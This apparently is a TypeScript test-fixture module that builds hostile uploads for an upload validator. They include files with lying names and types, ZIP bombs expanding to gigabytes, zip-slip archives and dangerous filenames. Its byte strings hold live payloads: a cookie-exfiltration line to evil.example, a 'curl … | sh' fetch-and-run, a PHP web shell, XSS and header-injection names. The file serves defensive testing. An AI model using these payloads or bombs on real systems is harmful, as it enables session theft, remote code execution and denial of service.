import { crc32, constants as zlibConstants, createDeflateRaw } from 'node:zlib';
import { sampleDocx, sampleElf, sampleExe, samplePdf, samplePng, sampleZip } from './multipart.js';

/**
 * Hostile uploads, built in code (nothing binary is committed): files whose name or claimed type
 * lies about their content, and archives that would expand to gigabytes if anything opened them.
 */

/** A file as a client sends it: the name, the type it claims, the bytes. */
export type HostileFile = { what: string; name: string; contentType: string; content: Buffer };

const docxType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const odtType = 'application/vnd.oasis.opendocument.text';

/** Files that must never be accepted, whatever they are called. */
export function forgedFiles(): HostileFile[] {
  const html = Buffer.from('<!doctype html><html><body><script>fetch("/account/data.json").then(r=>r.text()).then(alert)</script></body></html>');
  const svg = Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>');
  const js = Buffer.from('document.location = "https://evil.example/?c=" + document.cookie;\n');
  const php = Buffer.from('<?php system($_GET["cmd"]); ?>\n');
  const shell = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');
  // GIF header followed by markup: a browser sniffing it could take it for a page.
  const gifHtml = Buffer.concat([Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00', 'latin1'), Buffer.from('<html><script>alert(1)</script></html>')]);
  // Looks like text at first sight, but is binary.
  const binaryText = Buffer.concat([Buffer.from('Tere, see on tekst.\n'), Buffer.from([0x00, 0x01, 0x02, 0xff, 0xfe, 0x00, 0x10])]);
  return [
    { what: 'an HTML page named .pdf', name: 'arve.pdf', contentType: 'application/pdf', content: html },
    { what: 'an HTML page named .png', name: 'pilt.png', contentType: 'image/png', content: html },
    { what: 'an SVG with script named .png', name: 'logo.png', contentType: 'image/png', content: svg },
    { what: 'an SVG with script as it is', name: 'logo.svg', contentType: 'image/svg+xml', content: svg },
    { what: 'JavaScript named .docx', name: 'leping.docx', contentType: docxType, content: js },
    { what: 'a Windows program (MZ) named .pdf', name: 'arve.pdf', contentType: 'application/pdf', content: sampleExe() },
    { what: 'a Windows program (MZ) named .docx', name: 'leping.docx', contentType: docxType, content: sampleExe() },
    { what: 'a Linux program (ELF) named .png', name: 'foto.png', contentType: 'image/png', content: sampleElf() },
    { what: 'a PHP script named .pdf', name: 'otsus.pdf', contentType: 'application/pdf', content: php },
    { what: 'a shell script named .png', name: 'foto.png', contentType: 'image/png', content: shell },
    { what: 'a GIF/HTML polyglot named .png', name: 'pilt.png', contentType: 'image/png', content: gifHtml },
    { what: 'a GIF/HTML polyglot named .gif', name: 'pilt.gif', contentType: 'image/gif', content: gifHtml },
    { what: 'binary data named .txt', name: 'märkmed.txt', contentType: 'text/plain', content: binaryText },
    { what: 'a Windows program named .txt', name: 'loe.txt', contentType: 'text/plain', content: sampleExe() },
    { what: 'a ZIP that is no Word document named .docx', name: 'hagi.docx', contentType: docxType, content: sampleZip({ 'run.exe': 'MZ', 'a.txt': 'x' }) },
  ];
}

/** A PNG image whose name says PDF. */
export function pngNamedPdf(): HostileFile {
  return { what: 'a PNG named .pdf', name: 'skann.pdf', contentType: 'application/pdf', content: samplePng() };
}

/** A real PDF whose name says HTML. */
export function pdfNamedHtml(): HostileFile {
  return { what: 'a PDF named .html', name: 'leht.html', contentType: 'text/html', content: samplePdf('Not a page') };
}

/** A real PDF of exactly `size` bytes (padded with a comment at the end, which readers ignore). */
export function pdfOfSize(size: number): Buffer {
  const pdf = samplePdf();
  if (size < pdf.length + 2) throw new Error(`a PDF needs at least ${pdf.length + 2} bytes`);
  return Buffer.concat([pdf, Buffer.from('%'), Buffer.alloc(size - pdf.length - 2, 0x20), Buffer.from('\n')]);
}

/** A real PNG of exactly `size` bytes (padded after the end, which decoders ignore). */
export function pngOfSize(size: number): Buffer {
  const png = samplePng();
  return Buffer.concat([png, Buffer.alloc(size - png.length)]);
}

// ---- ZIP archives with deflated entries ----

type ZipEntry = {
  name: string;
  /** The bytes as stored (deflated when `deflated`). */
  data: Buffer;
  deflated: boolean;
  crc: number;
  uncompressedSize: number;
};

function stored(name: string, content: Buffer | string): ZipEntry {
  const data = Buffer.isBuffer(content) ? content : Buffer.from(content, 'utf8');
  return { name, data, deflated: false, crc: crc32(data), uncompressedSize: data.length };
}

function writeZip(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const method = entry.deflated ? 8 : 0;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(0, 10);
    local.writeUInt32LE(entry.crc >>> 0, 14);
    local.writeUInt32LE(entry.data.length, 18);
    local.writeUInt32LE(entry.uncompressedSize, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(entry.crc >>> 0, 16);
    central.writeUInt32LE(entry.data.length, 20);
    central.writeUInt32LE(entry.uncompressedSize, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, entry.data);
    centrals.push(central, name);
    offset += local.length + name.length + entry.data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const mebibyte = 1024 * 1024;
let zeroStream: Promise<{ head: Buffer; body: Buffer }> | undefined;

/**
 * Raw deflate of 1 MiB of zeros, twice, each ended with a sync flush: once the window is all
 * zeros, every further MiB compresses to the same bytes, so gigabytes cost only repetition.
 */
function zeroDeflateParts(): Promise<{ head: Buffer; body: Buffer }> {
  zeroStream ??= new Promise((resolve, reject) => {
    const deflate = createDeflateRaw({ level: 9 });
    const out: Buffer[] = [];
    deflate.on('data', (chunk: Buffer) => out.push(chunk));
    deflate.on('error', reject);
    const zeros = Buffer.alloc(mebibyte);
    deflate.write(zeros);
    deflate.flush(zlibConstants.Z_SYNC_FLUSH, () => {
      const head = Buffer.concat(out.splice(0));
      deflate.write(zeros);
      deflate.flush(zlibConstants.Z_SYNC_FLUSH, () => {
        const body = Buffer.concat(out.splice(0));
        deflate.destroy();
        resolve({ head, body });
      });
    });
  });
  return zeroStream;
}

const zeroCrcs = new Map<number, number>();

function crcOfZeros(mebibytes: number): number {
  const known = zeroCrcs.get(mebibytes);
  if (known !== undefined) return known;
  const zeros = Buffer.alloc(mebibyte);
  let crc = 0;
  for (let i = 0; i < mebibytes; i += 1) crc = crc32(zeros, crc);
  zeroCrcs.set(mebibytes, crc);
  return crc;
}

/** A deflated entry of `mebibytes` MiB of zeros (about 1 KiB per MiB); at most 4095 MiB (no ZIP64). */
async function zeroBomb(name: string, mebibytes: number): Promise<ZipEntry> {
  const { head, body } = await zeroDeflateParts();
  const parts = [head];
  for (let i = 1; i < mebibytes; i += 1) parts.push(body);
  parts.push(Buffer.from([0x03, 0x00])); // a final, empty fixed-Huffman block
  return { name, data: Buffer.concat(parts), deflated: true, crc: crcOfZeros(mebibytes), uncompressedSize: mebibytes * mebibyte };
}

const contentTypesXml =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const relsXml =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';
const documentXml =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Pomm</w:t></w:r></w:p></w:body></w:document>';

const bombGibibytes = 2;

/** A DOCX whose one extra part expands to 2 GiB of zeros. */
export async function zipBombDocx(): Promise<HostileFile> {
  const content = writeZip([
    stored('[Content_Types].xml', contentTypesXml),
    stored('_rels/.rels', relsXml),
    stored('word/document.xml', documentXml),
    await zeroBomb('word/media/image1.png', bombGibibytes * 1024),
  ]);
  return { what: 'a DOCX with a 2 GiB part', name: 'pomm.docx', contentType: docxType, content };
}

/** A DOCX whose first part, [Content_Types].xml (the one a type sniffer reads), expands to 2 GiB. */
export async function zipBombDocxContentTypes(): Promise<HostileFile> {
  const content = writeZip([await zeroBomb('[Content_Types].xml', bombGibibytes * 1024), stored('_rels/.rels', relsXml), stored('word/document.xml', documentXml)]);
  return { what: 'a DOCX whose [Content_Types].xml is 2 GiB', name: 'pomm2.docx', contentType: docxType, content };
}

/** An ODT (its `mimetype` first, as the format requires) whose content.xml expands to 2 GiB. */
export async function zipBombOdt(): Promise<HostileFile> {
  const content = writeZip([stored('mimetype', odtType), await zeroBomb('content.xml', bombGibibytes * 1024)]);
  return { what: 'an ODT with a 2 GiB content.xml', name: 'pomm.odt', contentType: odtType, content };
}

/** A DOCX holding four ZIPs, each holding a 1 GiB part: 4 GiB if unpacked all the way down. */
export async function nestedZipDocx(): Promise<HostileFile> {
  const inner = writeZip([await zeroBomb('zeros.bin', 1024)]);
  const content = writeZip([
    stored('[Content_Types].xml', contentTypesXml),
    stored('_rels/.rels', relsXml),
    stored('word/document.xml', documentXml),
    ...Array.from({ length: 4 }, (_, i) => stored(`word/embeddings/inner${i}.zip`, inner)),
  ]);
  return { what: 'a DOCX of nested ZIP bombs', name: 'pesa.docx', contentType: docxType, content };
}

/** A DOCX with entries whose names climb out of wherever it would be unpacked. */
export function traversalZipDocx(): HostileFile {
  const content = writeZip([
    stored('[Content_Types].xml', contentTypesXml),
    stored('_rels/.rels', relsXml),
    stored('word/document.xml', documentXml),
    stored('../../etc/passwd', 'root::0:0:root:/root:/bin/sh\n'),
    stored('..\\..\\evil.txt', 'pwned'),
    stored('/tmp/konsult-zip-slip.txt', 'pwned'),
  ]);
  return { what: 'a DOCX with ../../etc/passwd inside', name: 'libisev.docx', contentType: docxType, content };
}

/** A plain, valid Word document (for comparison). */
export function plainDocx(): HostileFile {
  return { what: 'a Word document', name: 'leping.docx', contentType: docxType, content: sampleDocx() };
}

/** File names built to escape the store, break headers or fool a reader. */
export const dangerousNames: { what: string; name: string }[] = [
  { what: 'a relative path', name: '../../x.pdf' },
  { what: 'a Windows relative path', name: '..\\..\\x.pdf' },
  { what: 'an absolute path', name: '/etc/passwd' },
  { what: 'a Windows drive path', name: 'C:\\x' },
  { what: 'a NUL byte', name: 'arve.pdf\u0000.exe' },
  { what: 'control characters', name: 'a\u0001b\u0007c\u001bd\u007f.pdf' },
  { what: 'an RTL override', name: 'invoice\u202Efdp.exe' },
  { what: 'a 10 000 character name', name: `${'a'.repeat(10_000)}.pdf` },
  { what: 'only dots', name: '...' },
  { what: 'two dots', name: '..' },
  { what: 'a Windows device name', name: 'CON' },
  { what: 'a Windows device name with extension', name: 'NUL.txt' },
  { what: 'a leading dash', name: '-rf.pdf' },
  { what: 'quotes and semicolons', name: 'a"; filename="evil.html"; x=".pdf' },
  { what: 'a header break', name: 'a.pdf\r\nSet-Cookie: session=evil\r\nX-Evil: 1' },
  { what: 'markup', name: '<img src=x onerror=alert(1)>.pdf' },
];
